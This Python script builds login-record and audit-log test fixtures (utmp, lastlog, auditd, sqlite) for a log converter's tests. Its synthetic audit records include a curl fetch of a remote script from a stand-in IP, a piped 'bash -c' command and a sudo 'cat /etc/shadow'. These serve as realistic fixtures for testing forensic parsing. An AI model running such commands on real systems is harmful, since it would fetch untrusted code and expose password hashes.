#!/usr/bin/env python3
"""Login records and audit logs for tests/logins_json.rs (convert::{utmp,lastlog,audit,logindb}).

    python3 images/build-logins.py           # rebuild images/logins/* and images/expected/logins/*
    python3 images/build-logins.py --check   # no rebuild: re-derive the expected outputs from the
                                             # COMMITTED fixtures with the tools, diff (exit 1 on mismatch)

Tools: utmpdump (util-linux 2.38), lastlog (login/shadow 4.13, `-R`), ausearch (auditd 3.0),
sqlite3 (3.40). Missing tools: --check prints why and exits 0.

What is made, and where the expectation comes from (never from snapsift):
- wtmp, btmp, utmp: `utmpdump -r` from the text below (every ut_type, an unknown type, IPv4 and
  IPv6 addresses, a non-UTF-8 user, a control byte, a literal `%41`), then the exit status and
  session fields patched in (utmpdump cannot write them). Expected: `utmpdump FILE` (TZ=UTC)
  and, for the patched fields, utmp.extra.json (what was put in).
- lastlog.gz: struct lastlog records at sparse UIDs (0, 1000, 4242 with no passwd entry, 60000),
  gzipped (17 MiB apparent, mostly zeros); passwd beside it. Expected: `lastlog -R` on a chroot
  with both (TZ=UTC) and lastlog.rows.json (what was put in, for the UID without a name).
- audit.log: auditd-style records (SYSCALL+EXECVE+CWD+PATH+PROCTITLE, USER_AUTH/USER_LOGIN,
  USER_CMD with a hex cmd, hex cwd/name/argv, interleaved events, node= prefixes, the enriched
  format's 0x1d separator, lines that are not records). Expected: `ausearch -if FILE -i` (TZ=UTC),
  reduced to the event header and the fields the converter decodes (uid names depend on the
  machine's passwd, so they are left out).
- wtmp.db, lastlog2.db: sqlite3 with wtmpdb's (lib/sqlite.c) and liblastlog2's schemas; the rows
  inserted are the expectation (wtmp.db.json, lastlog2.db.json). other.db: another schema.
"""
import gzip, json, os, shutil, struct, subprocess, sys, tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, "logins")
EXP = os.path.join(HERE, "expected", "logins")
ENV = dict(os.environ, TZ="UTC", LC_ALL="C")

UTMP = {
    "wtmp": [
        b"[2] [00000] [~~  ] [runlevel] [~           ] [6.1.0-21-amd64      ] [0.0.0.0        ] [2024-06-01T08:58:59,000000+00:00]",
        b"[1] [00000] [~~  ] [reboot  ] [~           ] [6.1.0-21-amd64      ] [0.0.0.0        ] [2024-06-01T08:58:58,500000+00:00]",
        b"[5] [00612] [tyS0] [        ] [ttyS0       ] [                    ] [0.0.0.0        ] [2024-06-01T08:59:01,000000+00:00]",
        b"[6] [00612] [tyS0] [LOGIN   ] [ttyS0       ] [                    ] [0.0.0.0        ] [2024-06-01T08:59:01,000001+00:00]",
        b"[7] [02101] [ts/0] [alice   ] [pts/0       ] [203.0.113.7         ] [203.0.113.7    ] [2024-06-01T09:00:01,200000+00:00]",
        b"[7] [02202] [ts/1] [bob     ] [pts/1       ] [2001:db8::7         ] [2001:db8::7    ] [2024-06-01T09:05:00,000001+00:00]",
        b"[7] [02303] [ts/2] [\xe9ve\x01   ] [pts/2       ] [host%41.example     ] [::ffff:198.51.100.9] [2024-06-01T09:06:00,250000+00:00]",
        b"[8] [02101] [ts/0] [        ] [pts/0       ] [                    ] [0.0.0.0        ] [2024-06-01T09:30:00,000000+00:00]",
        b"[3] [00000] [    ] [        ] [|           ] [                    ] [0.0.0.0        ] [2024-06-01T09:40:00,000000+00:00]",
        b"[4] [00000] [    ] [        ] [{           ] [                    ] [0.0.0.0        ] [2024-06-01T09:40:00,000000+00:00]",
        b"[9] [00777] [acct] [root    ] [            ] [                    ] [0.0.0.0        ] [2024-06-01T09:41:00,000000+00:00]",
        b"[42] [00042] [what] [mallory ] [pts/9       ] [10.0.0.1            ] [10.0.0.1       ] [2024-06-01T09:42:00,000000+00:00]",
        b"[0] [00000] [    ] [        ] [            ] [                    ] [0.0.0.0        ] [1970-01-01T00:00:00,000000+00:00]",
    ],
    "btmp": [
        b"[6] [03001] [    ] [root    ] [ssh:notty   ] [198.51.100.23       ] [198.51.100.23  ] [2024-06-01T10:00:00,000000+00:00]",
        b"[6] [03002] [    ] [admin   ] [ssh:notty   ] [198.51.100.23       ] [198.51.100.23  ] [2024-06-01T10:00:02,000000+00:00]",
        b"[6] [03003] [    ] [oracle  ] [ssh:notty   ] [2001:db8:1::23      ] [2001:db8:1::23 ] [2024-06-01T10:00:04,000000+00:00]",
    ],
    "utmp": [
        b"[2] [00000] [~~  ] [runlevel] [~           ] [6.1.0-21-amd64      ] [0.0.0.0        ] [2024-06-01T08:58:59,000000+00:00]",
        b"[1] [00000] [~~  ] [reboot  ] [~           ] [6.1.0-21-amd64      ] [0.0.0.0        ] [2024-06-01T08:58:58,500000+00:00]",
        b"[6] [00612] [tyS0] [LOGIN   ] [ttyS0       ] [                    ] [0.0.0.0        ] [2024-06-01T08:59:01,000001+00:00]",
        b"[7] [02202] [ts/1] [bob     ] [pts/1       ] [2001:db8::7         ] [2001:db8::7    ] [2024-06-01T09:05:00,000001+00:00]",
    ],
}
# (file, record index) -> (e_termination, e_exit, ut_session): what utmpdump cannot write.
UTMP_EXTRA = {("wtmp", 4): (0, 0, 2101), ("wtmp", 5): (0, 0, 2202), ("wtmp", 7): (1, 255, 2101),
              ("utmp", 3): (0, 0, 2202)}
# (file, record index) -> ut_addr_v6 as stored (utmpdump -r cannot write these two).
ADDR_PATCH = {("wtmp", 6): bytes(10) + b"\xff\xff" + bytes([198, 51, 100, 9]),   # ::ffff:198.51.100.9
              ("btmp", 1): bytes(12) + bytes([198, 51, 100, 24])}                # ::198.51.100.24

PASSWD = b"""root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
bob:x:1001:1001::/home/bob:/bin/bash
svc:x:60000:60000::/srv:/bin/sh
"""
# (uid, ll_time, ll_line, ll_host)
LASTLOG = [(0, 1717232400, b"pts/0", b"203.0.113.7"), (1000, 1717236000, b"tty1", b""),
           (4242, 1717239600, b"pts/3", b"2001:db8::42"), (60000, 1717243200, b"ssh", b"198.51.100.9")]

def hx(s):
    return s.encode().hex().upper()

AUDIT = "\n".join([
    "type=DAEMON_START msg=audit(1717232300.000:100): op=start ver=3.0.9 format=enriched kernel=6.1.0-21-amd64 auid=4294967295 pid=512 uid=0 ses=4294967295 subj=unconfined  res=success\x1dAUID=\"unset\" UID=\"root\"",
    "type=SERVICE_START msg=audit(1717232301.010:101): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=ssh comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
    "node=web01 type=USER_AUTH msg=audit(1717232400.100:456): pid=2101 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=pam_permit,pam_unix acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=success'",
    "node=web01 type=USER_LOGIN msg=audit(1717232401.200:460): pid=2101 uid=0 auid=1000 ses=3 subj=unconfined msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.7 terminal=/dev/pts/0 res=success'",
    "type=USER_LOGIN msg=audit(1717232402.300:461): pid=2120 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=login acct=" + hx("john doe") + " exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.23 terminal=sshd res=failed'",
    "type=SYSCALL msg=audit(1717232460.123:470): arch=c000003e syscall=59 success=yes exit=0 a0=55d4c8a0 a1=55d4c8b0 a2=55d4c8c0 a3=0 items=2 ppid=2150 pid=2151 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" subj=unconfined key=\"exec\"",
    "type=EXECVE msg=audit(1717232460.123:470): argc=3 a0=\"curl\" a1=\"-s\" a2=\"http://198.51.100.9/x.sh\"",
    "type=CWD msg=audit(1717232460.123:470): cwd=\"/home/alice\"",
    "type=PATH msg=audit(1717232460.123:470): item=0 name=\"/usr/bin/curl\" inode=1234 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PATH msg=audit(1717232460.123:470): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=99 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PROCTITLE msg=audit(1717232460.123:470): proctitle=" + hx("curl\0-s\0http://198.51.100.9/x.sh"),
    "type=EOE msg=audit(1717232460.123:470): ",
    # Two events interleaved; the second's argv and cwd are hex (a space in them).
    "type=SYSCALL msg=audit(1717232461.500:471): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=2151 pid=2152 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined key=\"exec\"",
    "type=SYSCALL msg=audit(1717232461.501:472): arch=c000003e syscall=59 success=yes exit=0 a0=4 a1=5 a2=6 a3=0 items=1 ppid=2152 pid=2153 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=" + hx("my tool") + " exe=" + hx("/tmp/my dir/my tool") + " subj=unconfined key=(null)",
    "type=EXECVE msg=audit(1717232461.500:471): argc=3 a0=\"bash\" a1=\"-c\" a2=" + hx("echo hello | bash"),
    "type=EXECVE msg=audit(1717232461.501:472): argc=2 a0=" + hx("/tmp/my dir/my tool") + " a1=\"--now\"",
    "type=CWD msg=audit(1717232461.501:472): cwd=" + hx("/tmp/my dir"),
    "type=CWD msg=audit(1717232461.500:471): cwd=\"/home/alice\"",
    "type=PATH msg=audit(1717232461.501:472): item=0 name=" + hx("/tmp/my dir/my tool") + " inode=77 dev=08:01 mode=0100755 ouid=1000 ogid=1000 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PATH msg=audit(1717232461.500:471): item=0 name=\"/usr/bin/bash\" inode=55 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PROCTITLE msg=audit(1717232461.501:472): proctitle=" + hx("/tmp/my dir/my tool\0--now"),
    "type=PROCTITLE msg=audit(1717232461.500:471): proctitle=" + hx("bash\0-c\0echo hello | bash"),
    "this line is not an audit record",
    "type=USER_CMD msg=audit(1717232470.000:480): pid=2160 uid=1000 auid=1000 ses=3 subj=unconfined msg='cwd=\"/home/alice\" cmd=" + hx("cat /etc/shadow") + " exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
    "node=web01 type=USER_END msg=audit(1717232500.000:490): pid=2101 uid=0 auid=1000 ses=3 subj=unconfined msg='op=PAM:session_close grantors=pam_unix acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.7 addr=203.0.113.7 terminal=ssh res=success'",
    "type=SYSCALL msg=audit(1717232",
]) + "\n"

# The fields the converter decodes, compared with ausearch -i's interpretation.
DECODED = {"proctitle", "cmd", "exe", "comm", "name", "path", "cwd", "acct"}


def run(cmd, **kw):
    return subprocess.run(cmd, check=True, stdout=subprocess.PIPE, env=ENV, **kw).stdout


def have(tool):
    return shutil.which(tool) is not None


def build():
    os.makedirs(FIX, exist_ok=True)
    for name, lines in UTMP.items():
        binary = bytearray(run(["utmpdump", "-r"], input=b"\n".join(lines) + b"\n", stderr=subprocess.DEVNULL))
        assert len(binary) == 384 * len(lines), name
        for (f, i), (term, ex, ses) in UTMP_EXTRA.items():
            if f == name:
                struct.pack_into("<hhi", binary, 384 * i + 332, term, ex, ses)
        for (f, i), addr in ADDR_PATCH.items():
            if f == name:
                binary[384 * i + 348:384 * i + 364] = addr
        open(os.path.join(FIX, name), "wb").write(binary)
    open(os.path.join(FIX, "passwd"), "wb").write(PASSWD)
    ll = bytearray(292 * (LASTLOG[-1][0] + 1))
    for uid, t, line, host in LASTLOG:
        struct.pack_into("<i32s256s", ll, 292 * uid, t, line, host)
    with gzip.GzipFile(os.path.join(FIX, "lastlog.gz"), "wb", mtime=0) as f:
        f.write(ll)
    open(os.path.join(FIX, "audit.log"), "wb").write(AUDIT.encode())
    dbs = {
        "wtmp.db": """CREATE TABLE IF NOT EXISTS wtmp(ID INTEGER PRIMARY KEY, Type INTEGER, User TEXT NOT NULL, Login INTEGER, Logout INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT) STRICT;
INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (1,'reboot',1717232338500000,1717246800000000,'~','6.1.0-21-amd64',NULL);
INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (3,'alice',1717232401200000,1717234200000000,'pts/0','203.0.113.7','sshd');
INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (3,'bob',1717232700000001,NULL,'pts/1','2001:db8::7','sshd');
INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (3,CAST(X'E9766501' AS TEXT),1717232760250000,NULL,'tty1',NULL,'login');
INSERT INTO wtmp (Type,User,Login,Logout,TTY,RemoteHost,Service) VALUES (7,'odd',NULL,NULL,NULL,'',NULL);
""",
        "lastlog2.db": """CREATE TABLE IF NOT EXISTS Lastlog2(Name TEXT PRIMARY KEY, Time INTEGER, TTY TEXT, RemoteHost TEXT, Service TEXT);
INSERT INTO Lastlog2 VALUES ('root',1717232400,'pts/0','203.0.113.7','sshd');
INSERT INTO Lastlog2 VALUES ('alice',1717236000,'tty1',NULL,'login');
INSERT INTO Lastlog2 VALUES ('bob',0,NULL,NULL,NULL);
""",
        "other.db": "CREATE TABLE notes(id INTEGER PRIMARY KEY, body TEXT); INSERT INTO notes(body) VALUES ('hi');\n",
    }
    for name, sql in dbs.items():
        p = os.path.join(FIX, name)
        if os.path.exists(p):
            os.remove(p)
        run(["sqlite3", p], input=sql.encode())
    os.makedirs(EXP, exist_ok=True)
    extra = {f"{f}:{i}": {"exit_termination": t, "exit_status": e, "session": s} for (f, i), (t, e, s) in UTMP_EXTRA.items()}
    write_json("utmp.extra.json", extra)
    write_json("lastlog.rows.json", [{"uid": u, "time": t, "line": l.decode(), "host": h.decode()} for u, t, l, h in LASTLOG])
    write_json("wtmp.db.json", json.loads(run(["sqlite3", "-json", os.path.join(FIX, "wtmp.db"),
                                               "SELECT ID,Type,hex(User) AS UserHex,Login,Logout,TTY,RemoteHost,Service FROM wtmp ORDER BY ID"])))
    write_json("lastlog2.db.json", json.loads(run(["sqlite3", "-json", os.path.join(FIX, "lastlog2.db"),
                                                   "SELECT Name,Time,TTY,RemoteHost,Service FROM Lastlog2 ORDER BY Name"])))
    for name, data in derive().items():
        open(os.path.join(EXP, name), "wb").write(data)


def write_json(name, v):
    open(os.path.join(EXP, name), "w").write(json.dumps(v, indent=1, sort_keys=True) + "\n")


def derive():
    """The tools' reading of the committed fixtures."""
    out = {}
    for name in UTMP:
        out[name + ".utmpdump"] = run(["utmpdump", os.path.join(FIX, name)], stderr=subprocess.DEVNULL)
    with tempfile.TemporaryDirectory() as root:
        os.makedirs(os.path.join(root, "etc"))
        os.makedirs(os.path.join(root, "var", "log"))
        shutil.copy(os.path.join(FIX, "passwd"), os.path.join(root, "etc", "passwd"))
        with gzip.open(os.path.join(FIX, "lastlog.gz")) as f:
            open(os.path.join(root, "var", "log", "lastlog"), "wb").write(f.read())
        out["lastlog.txt"] = run(["lastlog", "-R", root])
    text = run(["ausearch", "-if", os.path.join(FIX, "audit.log"), "-i"], stderr=subprocess.DEVNULL)
    keep = []
    for line in text.decode("utf-8", "surrogateescape").split("\n"):
        if line.startswith("----") or not line:
            keep.append(line)
            continue
        head, _, body = line.partition(" : ")
        fields = [f for f in split_fields(body) if f.split("=", 1)[0] in DECODED or (head.split("type=")[-1].startswith("EXECVE ") and f[:1] == "a" and f[1:2].isdigit())]
        keep.append(head + " : " + " ".join(fields))
    out["audit.ausearch"] = "\n".join(keep).encode("utf-8", "surrogateescape")
    return out


def split_fields(body):
    """ausearch -i's `k=v k=v msg='k=v …'`: the inner fields too (values have no spaces but the
    decoded ones, which run until the next ` key=`)."""
    body = body.replace("msg='", "").rstrip("'")
    words, cur = [], None
    for w in body.split(" "):
        k = w.split("=", 1)[0]
        if "=" in w and k and all(c.isalnum() or c in "_-[]" for c in k):
            if cur is not None:
                words.append(cur)
            cur = w
        elif cur is not None:
            cur += " " + w
    if cur is not None:
        words.append(cur)
    return [w.rstrip("'") for w in words]


def check():
    missing = [t for t in ("utmpdump", "lastlog", "ausearch") if not have(t)]
    if os.geteuid() != 0:
        missing.append("root, for lastlog -R")
    if missing:
        print(f"build-logins.py --check: skipped ({', '.join(missing)} missing)")
        return 0
    bad = 0
    for name, data in derive().items():
        if open(os.path.join(EXP, name), "rb").read() != data:
            print(f"MISMATCH {name}")
            bad = 1
    print("build-logins.py --check:", "FAILED" if bad else "ok")
    return bad


if __name__ == "__main__":
    sys.exit(check() if "--check" in sys.argv else build())
